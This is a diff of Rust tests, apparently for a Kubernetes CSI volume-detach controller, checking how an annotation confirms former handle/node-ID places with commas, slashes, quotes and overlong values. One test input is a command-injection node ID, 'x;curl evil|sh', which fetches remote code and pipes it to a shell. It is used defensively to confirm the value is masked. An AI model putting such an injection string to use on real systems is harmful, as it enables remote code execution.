@@ -6,7 +6,7 @@ use super::builders::{FINALIZER, GCE_DRIVER, GCE_FINALIZER, NODE_ID, Va, attachm
 use super::table::{Row, done, ends, mended, play, retried, row, tally};
 use super::world::{gce_world, on_node, ready, world};
 use crate::api::names::NOT_ATTACHED_AT_ANNOTATION;
-use crate::decide::Failure;
+use crate::decide::{self, Failure, SecretState, VolumeOnNode, observe};
 
 const OTHER: &str = "someone/else";
 
@@ -133,15 +133,56 @@ fn detaching_volumes() {
     tally("8.2", "detach", count);
 }
 
+/// A detach of handle1 that was formerly at these places.
+fn of_former(places: &[(&str, &str)]) -> Va {
+    let places = places.iter();
+    let former: Vec<_> = places
+        .map(|(handle, node_id)| json!({"handle": handle, "nodeID": node_id}))
+        .collect();
+    detaching().noted_volume(&json!({"handle": "handle1", "former": former}))
+}
+
+/// Whoever pastes it confirms this place, and takes back nothing. Whoever registers a node chooses its ID, and whoever writes a
+/// PersistentVolume its handle: a command has no word of them that a shell does not take as it is.
+#[test]
+fn a_place_is_confirmed_beside_those_that_are_confirmed() {
+    let long = "h".repeat(2_000);
+    let [a, b, both] = ["a", "b", "a,b"].map(|id| ("handle1", id));
+    let (hostile, slash) = (("handle1", "x;curl evil|sh"), ("handle1", "form-1/id"));
+    let (other, quote, too_long) = (("handle0", "nodeID1"), ("it's", "nodeID1"), (&*long, "nodeID1"));
+    // The former places, what the annotation is, the place to be confirmed, and what the annotation has to be.
+    for (former, said, place, list) in [
+        (vec![a, b], "", b, Some("b")),
+        (vec![a, b], "a", b, Some("a,b")),
+        (vec![a, b], "?", b, Some("b")),
+        (vec![a, b, both], "a,b", a, Some("a,b,a")),
+        // It would be read as the third one.
+        (vec![a, b, both], "a", b, None),
+        (vec![a, other], "a", other, Some("a,handle0@nodeID1")),
+        (vec![slash], "", slash, Some("form-1/id")),
+        (vec![hostile, b], "x;curl evil|sh", b, Some("ID,b")),
+        (vec![hostile], "", hostile, Some("ID")),
+        (vec![quote], "", quote, Some("HANDLE@nodeID1")),
+        (vec![too_long], "", too_long, Some("HANDLE@nodeID1")),
+        (vec![a], "a", ("handle1", "nodeID1"), None),
+    ] {
+        let attachment = of_former(&former).annotation(NOT_ATTACHED_AT_ANNOTATION, said);
+        let world = ready().node().va(attachment);
+        let snapshot = world.snapshot().unwrap();
+        let observed = observe(&snapshot, &world.driver, &world.policy, SecretState::Loaded);
+        let place = VolumeOnNode::new(place.0, place.1).unwrap();
+        let confirmation = decide::confirmation(&observed, place);
+        assert_eq!(confirmation.as_deref(), list, "{former:?} {said:?} {place:?}");
+    }
+}
+
 /// What the sidecar has no test for, and where we differ.
 #[test]
 #[allow(clippy::too_many_lines, reason = "a table")]
 fn detaching_with_care() {
     let note = json!({"handle": "handle1", "secret": {"namespace": "default", "name": "secret"}});
     let replaced = |volume| on_node(volume).va(detaching().noted_volume(&json!({"handle": "handle1"})));
-    let of_former_handle = || {
-        detaching().noted_volume(&json!({"handle": "handle1", "former": [{"handle": "handle0", "nodeID": "nodeID1"}]}))
-    };
+    let of_former_handle = || of_former(&[("handle0", "nodeID1")]);
     play(vec![
         // A merge patch of the owner of the other finalizer replaced the list.
         done("unpub handle1 nodeID1 | DET").when(vec![(
@@ -264,6 +305,47 @@ fn detaching_with_care() {
                     {"handle": "handle1", "nodeID": "a,b"}, {"handle": "handle1", "nodeID": "nodeID0"},
                 ]}))
                 .annotation(NOT_ATTACHED_AT_ANNOTATION, "nodeID1, nodeID0")),
+        )]),
+        done("unpub handle1 nodeID1 | unpub handle1 w | FIN- | DET").when(vec![
+            (
+                "of an ID that begins with another one, that one is confirmed alone",
+                ready()
+                    .node()
+                    .va(of_former(&[("handle1", "w"), ("handle1", "w,10")])
+                        .annotation(NOT_ATTACHED_AT_ANNOTATION, "w,10")),
+            ),
+            (
+                "of an ID that ends with another one as well, beside a name of no place",
+                ready().node().va(of_former(&[("handle1", "w"), ("handle1", "10,w")])
+                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "10,w , ww")),
+            ),
+        ]),
+        done("unpub handle1 nodeID1 | FIN- | DET").when(vec![(
+            "both of them are confirmed in a list",
+            ready()
+                .node()
+                .va(of_former(&[("handle1", "w"), ("handle1", "w,10")])
+                    .annotation(NOT_ATTACHED_AT_ANNOTATION, " w,10 , w")),
+        )]),
+        done("unpub handle1 w,10 | unpub handle1 w | FIN- | DET").when(vec![(
+            "what is said of the ID of now says nothing of one with which it begins",
+            ready().node_of(Some("w,10")).va(of_former(&[("handle1", "w")])
+                .noted_node("w,10")
+                .annotation(NOT_ATTACHED_AT_ANNOTATION, "w,10")),
+        )]),
+        done("unpub handle1 nodeID1 | unpub b nodeID1 | FIN- | DET").when(vec![(
+            "a handle with a comma is confirmed alone",
+            ready()
+                .node()
+                .va(of_former(&[("a,b", "nodeID1"), ("b", "nodeID1")])
+                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "a,b@nodeID1")),
+        )]),
+        done("unpub handle1 nodeID1 | unpub a nodeID1 | unpub handle1 a@nodeID1 | FIN- | DET").when(vec![(
+            "a name that means two places confirms neither",
+            ready()
+                .node()
+                .va(of_former(&[("a", "nodeID1"), ("handle1", "a@nodeID1")])
+                    .annotation(NOT_ATTACHED_AT_ANNOTATION, "a@nodeID1")),
         )]),
         done("unpub handle1 nodeID1 | unpub handle0 nodeID1 | FIN- | DET").when(vec![(
             "the ID alone means the volume of now as well, which nobody can confirm",
